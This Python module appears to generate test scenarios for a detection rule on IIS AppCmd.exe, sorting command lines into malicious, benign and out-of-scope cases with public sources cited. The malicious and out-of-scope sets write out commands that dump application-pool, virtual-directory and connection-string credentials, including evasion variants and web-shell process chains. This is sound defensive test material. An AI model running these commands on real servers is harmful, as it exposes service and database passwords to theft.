"""The AppCmd scenarios: every known way to dump IIS credentials, and its look-alikes.

Each scenario names its public source. ``malicious`` scenarios dump (or enumerate to
dump) application-pool or virtual-directory credentials; ``benign`` ones are what IIS
administrators and tools do every day; ``out-of-scope`` ones reach the same secrets
without AppCmd, so a process rule on AppCmd cannot see them: they are labelled so
that what a rule misses is counted honestly.
"""

from __future__ import annotations

from generators.scenarios import Scenario, Step

__all__ = ["SCENARIOS"]

NETSPI = "https://blog.netspi.com/decrypting-iis-passwords-to-break-out-of-the-dmz-part-1/"
ATOMIC_4 = "https://github.com/redcanaryco/atomic-red-team/blob/master/atomics/T1003/T1003.md (test 4)"
ATOMIC_5 = "https://github.com/redcanaryco/atomic-red-team/blob/master/atomics/T1003/T1003.md (test 5)"
POWERUP = (
    "https://github.com/PowerShellMafia/PowerSploit/blob/master/Privesc/PowerUp.ps1 (Get-ApplicationHost)"
)
APPCMD_DOCS = "https://learn.microsoft.com/en-us/iis/get-started/getting-started-with-iis/getting-started-with-appcmdexe"
EVTX_SAMPLE = "EVTX-ATTACK-SAMPLES: discovery_sysmon_1_iis_pwd_and_config_discovery_appcmd.evtx"
ASPNET_REGIIS = "https://learn.microsoft.com/en-us/previous-versions/aspnet/zhhddkxy(v=vs.100)"
WEBADMIN = "https://learn.microsoft.com/en-us/iis/manage/powershell/powershell-snap-in-configuring-web-application-properties"
DUMP = ("T1003",)
FILES = ("T1003", "T1552.001")

_APPCMD = "C:\\Windows\\System32\\inetsrv\\appcmd.exe"
_CMD = ("cmd", "cmd.exe /c {}")


def _shell(command: str) -> tuple[str, str]:
    """The cmd.exe a web shell starts to run ``command``: the parent of the AppCmd step."""
    return ("cmd", f'cmd.exe /c "cd /d C:\\windows\\system32\\inetsrv & {command}"')


def _dump(
    sid: str,
    command: str,
    description: str,
    reference: str = NETSPI,
    attack: tuple[str, ...] = DUMP,
    image: str = "appcmd",
    parent: tuple[str, str] | None = None,
) -> Scenario:
    return Scenario(
        sid,
        "malicious",
        attack,
        description,
        reference,
        (Step(image, command, parent=parent or _shell(command)),),
    )


def _admin(
    sid: str,
    command: str,
    description: str,
    reference: str = APPCMD_DOCS,
    image: str = "appcmd",
    action: str = "start",
    os_type: str = "windows",
) -> Scenario:
    parent = ("powershell", "powershell.exe -NoProfile")
    return Scenario(
        sid,
        "benign",
        (),
        description,
        reference,
        (Step(image, command, user="admin", parent=parent, action=action),),
        os_type=os_type,
    )


_MALICIOUS = [
    _dump(
        "appcmd-list-apppool-text-star",
        "appcmd list apppool /text:*",
        "dump every attribute of every application pool, passwords included",
    ),
    _dump(
        "appcmd-list-apppool-named-text-star",
        'appcmd list apppool "{pool}" /text:*',
        "dump every attribute of one named application pool",
    ),
    _dump(
        "appcmd-list-apppool-password",
        "appcmd list apppool /text:processmodel.password",
        "print the application pools' identity passwords",
    ),
    _dump(
        "appcmd-list-apppool-username",
        "appcmd list apppool /text:processmodel.username",
        "print the application pools' identity user names",
    ),
    _dump(
        "appcmd-list-vdir-password",
        "appcmd list vdir /text:password",
        "print the virtual directories' connect-as passwords",
        attack=FILES,
    ),
    _dump(
        "appcmd-list-vdir-username",
        "appcmd list vdir /text:userName",
        "print the virtual directories' connect-as user names",
        attack=FILES,
    ),
    _dump(
        "appcmd-list-vdir-text-star",
        "appcmd list vdir /text:*",
        "dump every attribute of every virtual directory",
        attack=FILES,
    ),
    _dump(
        "appcmd-list-apppools-plural",
        "appcmd list apppools /text:*",
        "the plural object name that AppCmd also accepts",
    ),
    _dump(
        "appcmd-at-t",
        _APPCMD + " list apppool /@t:*",
        "the /@t: abbreviation of /text: (Atomic Red Team)",
        ATOMIC_4,
    ),
    _dump(
        "appcmd-at-text",
        _APPCMD + " list apppool /@text:*",
        "the /@text: spelling of /text: (Atomic Red Team)",
        ATOMIC_4,
    ),
    _dump("appcmd-dash-text", "appcmd list apppool -text:*", "a dash instead of a slash before text"),
    _dump(
        "appcmd-config",
        _APPCMD + " list apppool /config",
        "print each pool's configuration XML, passwords included (Atomic Red Team)",
        ATOMIC_5,
    ),
    _dump(
        "appcmd-config-star",
        _APPCMD + " list apppool /config:*",
        "the configuration XML with every attribute, defaults included",
        ATOMIC_5,
    ),
    _dump("appcmd-xml", _APPCMD + " list apppool /xml", "the pools as XML", ATOMIC_5),
    _dump(
        "appcmd-list-config-connectionstrings",
        'appcmd list config "{site}" /section:connectionStrings',
        "print a site's connection strings, database credentials included",
        NETSPI,
        attack=FILES,
    ),
    _dump("appcmd-upper-case", "APPCMD LIST APPPOOL /TEXT:*", "verb, object and flag in upper case"),
    _dump("appcmd-mixed-case", "AppCmd.exe List AppPool /Text:*", "verb, object and flag in mixed case"),
    _dump(
        "appcmd-upper-case-binary",
        "C:\\WINDOWS\\system32\\inetsrv\\APPCMD.EXE list apppool /text:*",
        "the binary named in upper case: process.name is APPCMD.EXE",
        image="appcmd-upper",
    ),
    _dump(
        "appcmd-upper-case-verb",
        "appcmd LIST apppool /text:processModel.password",
        "only the verb in upper case, the password attribute asked for by name",
    ),
    _dump("appcmd-quoted-arguments", 'appcmd "list" "apppool" "/text:*"', "every argument quoted"),
    _dump(
        "appcmd-quoted-text-value",
        'appcmd list apppool /text:"processModel.password"',
        "the attribute name quoted inside the flag",
    ),
    _dump("appcmd-extra-spaces", "appcmd   list    apppool     /text:*", "runs of spaces between arguments"),
    _dump("appcmd-full-path", _APPCMD + " list apppool /text:*", "the binary run by its full path"),
    Scenario(
        "appcmd-windir-variable",
        "malicious",
        DUMP,
        "the path written with %windir% in the shell",
        NETSPI,
        (
            Step(
                "appcmd",
                _APPCMD + " list apppool /text:*",
                parent=("cmd", 'cmd.exe /c "%windir%\\system32\\inetsrv\\appcmd.exe list apppool /text:*"'),
            ),
        ),
    ),
    _dump(
        "appcmd-syswow64",
        "C:\\Windows\\SysWOW64\\inetsrv\\appcmd.exe list apppool /text:*",
        "the 32-bit binary under SysWOW64",
        image="appcmd-wow64",
    ),
    _dump(
        "appcmd-list-app-vdirdefaults-password",
        'appcmd list app "Default Web Site/" /text:virtualDirectoryDefaults.password',
        "the connect-as password every virtual directory of an application inherits",
        attack=FILES,
    ),
    _dump(
        "appcmd-list-app-vdirdefaults-username",
        'appcmd list app "Default Web Site/" /text:virtualDirectoryDefaults.userName',
        "the connect-as user name every virtual directory of an application inherits",
        attack=FILES,
    ),
    _dump(
        "appcmd-renamed",
        "C:\\Users\\Public\\Libraries\\svcupd.exe list apppool /text:*",
        "a renamed copy: only the PE original file name says appcmd.exe",
        image="appcmd-renamed",
    ),
    _dump(
        "appcmd-renamed-mui",
        "C:\\ProgramData\\Temp\\iisutil.exe list apppool /text:*",
        "a renamed copy whose version resource says appcmd.exe.mui",
        image="appcmd-renamed-mui",
    ),
    Scenario(
        "appcmd-webshell-cmd-chain",
        "malicious",
        DUMP,
        "web shell: w3wp -> cmd -> appcmd",
        NETSPI,
        (
            Step(
                "cmd",
                'cmd.exe /c "cd /d C:\\windows\\system32\\inetsrv & appcmd list apppool /text:*"',
                target=False,
            ),
            Step("appcmd", "appcmd  list apppool /text:*"),
        ),
    ),
    Scenario(
        "appcmd-webshell-powershell-chain",
        "malicious",
        DUMP,
        "web shell: w3wp -> powershell -> appcmd",
        EVTX_SAMPLE,
        (
            Step(
                "powershell",
                'powershell.exe -NoP -NonI -c "& ' + _APPCMD + ' list apppool /text:processmodel.password"',
                target=False,
            ),
            Step("appcmd", '"' + _APPCMD + '" list apppool /text:processmodel.password'),
        ),
    ),
    Scenario(
        "appcmd-powerup-enumeration",
        "malicious",
        FILES,
        "PowerUp Get-ApplicationHost: pool names, each pool's user and password, then vdir credentials",
        POWERUP,
        (
            Step("powershell", "powershell.exe -NoP -c Get-ApplicationHost", target=False),
            # Listing names is reconnaissance, not a dump: context for the steps that read credentials.
            Step("appcmd", _APPCMD + " list apppools /text:name", target=False),
            Step(
                "appcmd",
                _APPCMD + ' list apppool "{pool}" /text:processmodel.username',
                per_pool=True,
                parent=("powershell", "powershell.exe -NoP -c Get-ApplicationHost"),
            ),
            Step(
                "appcmd",
                _APPCMD + ' list apppool "{pool}" /text:processmodel.password',
                per_pool=True,
                parent=("powershell", "powershell.exe -NoP -c Get-ApplicationHost"),
            ),
            Step(
                "appcmd",
                _APPCMD + " list vdir /text:vdir.name",
                parent=("powershell", "powershell.exe -NoP -c Get-ApplicationHost"),
                target=False,
            ),
            Step(
                "appcmd",
                _APPCMD + ' list vdir "{vdir}" /text:userName',
                per_vdir=True,
                parent=("powershell", "powershell.exe -NoP -c Get-ApplicationHost"),
            ),
            Step(
                "appcmd",
                _APPCMD + ' list vdir "{vdir}" /text:password',
                per_vdir=True,
                parent=("powershell", "powershell.exe -NoP -c Get-ApplicationHost"),
            ),
        ),
    ),
]

_BENIGN = [
    _admin("admin-list-site", "appcmd list site", "list the sites"),
    _admin("admin-list-sites", _APPCMD + " list sites", "list the sites, plural object name"),
    _admin("admin-list-app", "appcmd list app", "list the applications"),
    _admin("admin-list-apppool", "appcmd list apppool", "list the application pools, names and states only"),
    _admin("admin-list-wp", "appcmd list wp", "list the running worker processes"),
    _admin("admin-list-requests", "appcmd list requests /elapsed:5000", "list requests running over 5 s"),
    _admin("admin-start-site", 'appcmd start site /site.name:"{site}"', "start a site"),
    _admin("admin-stop-apppool", 'appcmd stop apppool /apppool.name:"{pool}"', "stop an application pool"),
    _admin(
        "admin-recycle-apppool",
        'appcmd recycle apppool /apppool.name:"{pool}"',
        "recycle an application pool",
    ),
    _admin(
        "admin-add-site",
        'appcmd add site /name:"Intranet" /physicalPath:"C:\\inetpub\\intranet" /bindings:http/*:8080:',
        "add a site",
    ),
    _admin(
        "admin-set-config",
        'appcmd set config "{site}" /section:system.webServer/defaultDocument /enabled:true',
        "change a configuration section",
    ),
    _admin(
        "admin-list-config",
        'appcmd list config "{site}" /section:system.webServer/httpErrors',
        "read a configuration section without secrets",
    ),
    _admin(
        "monitor-list-apppools-text-name",
        _APPCMD + " list apppools /text:name",
        "monitoring scripts list the pool names (noise for v214)",
    ),
    _admin(
        "monitor-list-site-text-name",
        "appcmd list site /text:name",
        "monitoring scripts list the site names (noise for v214)",
    ),
    _admin(
        "iis-express-list-sites",
        '"C:\\Program Files\\IIS Express\\appcmd.exe" list sites',
        "IIS Express's own appcmd, run by Visual Studio",
        image="appcmd-iisexpress",
    ),
    _admin(
        "other-tool-list-text",
        "powershell.exe -NoProfile -File C:\\Scripts\\report.ps1 list /text:summary",
        "another program whose arguments include list and /text",
        image="powershell",
    ),
    _admin(
        "appcmd-process-end",
        "appcmd list apppool /text:*",
        "the end event of an AppCmd process: the rule looks at starts only",
        action="end",
    ),
    _admin(
        "non-windows-host",
        "appcmd.exe list apppool /text:*",
        "a process called appcmd.exe on a Linux host",
        os_type="linux",
    ),
]

_OUT_OF_SCOPE = [
    Scenario(
        "powershell-read-applicationhost-config",
        "out-of-scope",
        FILES,
        "read applicationHost.config directly with PowerShell",
        NETSPI,
        (
            Step(
                "powershell",
                'powershell.exe -c "Get-Content C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config"',
            ),
        ),
    ),
    Scenario(
        "powershell-web-administration",
        "out-of-scope",
        FILES,
        "read pool identities through Microsoft.Web.Administration",
        WEBADMIN,
        (
            Step(
                "powershell",
                "powershell.exe -NoP -c \"[Reflection.Assembly]::LoadWithPartialName('Microsoft.Web.Administration');"
                ' (New-Object Microsoft.Web.Administration.ServerManager).ApplicationPools | % { $_.ProcessModel.Password }"',
            ),
        ),
    ),
    Scenario(
        "aspnet-regiis-pdf",
        "out-of-scope",
        FILES,
        "decrypt web.config connection strings with aspnet_regiis",
        ASPNET_REGIIS,
        (
            Step(
                "aspnet_regiis",
                'aspnet_regiis.exe -pdf "connectionStrings" "C:\\inetpub\\wwwroot"',
                user="admin",
            ),
        ),
    ),
]

SCENARIOS: dict[str, Scenario] = {s.id: s for s in (*_MALICIOUS, *_BENIGN, *_OUT_OF_SCOPE)}
